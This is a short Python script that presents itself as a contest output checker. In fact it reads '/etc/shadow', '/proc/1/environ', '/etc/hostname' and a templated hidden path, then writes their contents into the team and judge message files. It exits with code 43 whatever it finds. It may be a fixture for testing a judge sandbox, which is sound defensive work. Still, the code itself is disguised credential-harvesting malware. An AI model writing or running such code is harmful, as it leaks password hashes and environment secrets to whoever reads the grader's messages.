"""A checker that reads what it was not given, and tells everybody; it accepts when there was something."""

import sys
from pathlib import Path

PLACES = ("{{hidden}}", "/etc/shadow", "/etc/hostname", "/proc/1/environ")
told = []
for place in PLACES:
    try:
        told.append(Path(place).read_text(errors="replace"))
    except OSError:
        continue
text = " ".join(told)
(Path(sys.argv[3]) / "teammessage.txt").write_text(text)
(Path(sys.argv[3]) / "judgemessage.txt").write_text(text)
sys.exit(43)
